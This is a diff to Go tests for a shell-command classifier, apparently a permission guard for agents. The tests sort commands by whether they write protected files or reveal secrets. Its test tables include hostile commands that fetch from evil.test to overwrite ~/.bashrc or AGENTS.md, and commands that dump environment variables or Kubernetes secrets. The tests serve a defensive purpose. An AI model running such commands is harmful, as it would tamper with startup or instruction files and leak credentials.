@@ -35,7 +35,7 @@ func TestKnownCommandsThatWriteGuardedFiles(t *testing.T) {
 		"scp evil.test:AGENTS.md .":                     admin,
 		"mv /tmp/evil/app /home/u/work":                 admin,
 		"gunzip AGENTS.md.gz":                           admin,
-		"tar -xf x.tar -C .github":                      run,
+		"tar -xf x.tar -C .github":                      admin,
 		"tar -xf x.tar AGENTS.md":                       admin,
 		"true && curl -O https://evil.test/AGENTS.md":   admin,
 		"true && wget -qO ~/.bashrc evil.test/x":        admin,
@@ -71,12 +71,12 @@ func TestKnownCommandsThatWriteHarmlessFiles(t *testing.T) {
 	for line, want := range map[string]floodmark.Effect{
 		"curl https://example.com/AGENTS.md":                fetch, // prints it
 		"wget -qO- https://example.com/AGENTS.md":           fetch,
-		"curl -s https://example.com/package.json | jq .":   run,
-		"wget -qO- https://example.com/package.json | jq .": run,
-		"curl -o x.json https://example.com/package.json":   run,
+		"curl -s https://example.com/package.json | jq .":   fetch,
+		"wget -qO- https://example.com/package.json | jq .": fetch,
+		"curl -o x.json https://example.com/package.json":   write,
 		"cp a b":                           write,
 		"cp a.txt b.txt":                   write,
-		"cp Makefile Makefile.bak":         admin, // the worse of both names
+		"cp Makefile Makefile.bak":         write, // only the second name is written
 		"cp x.txt sub":                     write,
 		"curl -O https://example.com/x.js": write,
 		"wget https://example.com/x.js":    write,
@@ -114,7 +114,7 @@ func TestAddressesOfCommands(t *testing.T) {
 		"gh issue view https://github.com/a/b/issues": {"https://github.com/a/b/issues"},
 		"curl file:///etc/hosts":                      nil,
 		"ls":                                          nil,
-		"curl 'https://evil.test'":                    nil, // arbitrary code: not looked at
+		"curl 'https://evil.test'":                    {"https://evil.test"},
 	} {
 		if u := shell(t, c, line); !slices.Equal(u.URLs, want) {
 			t.Errorf("%s: %q, want %q", line, u.URLs, want)
@@ -189,10 +189,11 @@ func TestSecrecyOfWhatACommandTells(t *testing.T) {
 		`node -e "console.log(process.env)"`:            floodmark.Secret,
 		"ps eww | head":                                 floodmark.Secret,
 		"kubectl get -n kube-system secret":             floodmark.Secret,
-		"env A=1 make | tail":                           floodmark.Private,
-		"set -e; make":                                  floodmark.Private,
-		"export A=1; make":                              floodmark.Private,
-		"echo $HOME; make":                              floodmark.Private,
+		"env A=1 make | tail":                           floodmark.Internal,
+		"set -e; make":                                  floodmark.Internal,
+		"export A=1; make":                              floodmark.Internal,
+		"echo $HOME; make":                              floodmark.Internal,
+		"echo $HOME; ./make":                            floodmark.Private,
 	} {
 		if u := shell(t, c, line); u.Returns.Secrecy != want {
 			t.Errorf("%s: %v, want %v", line, u.Returns, want)
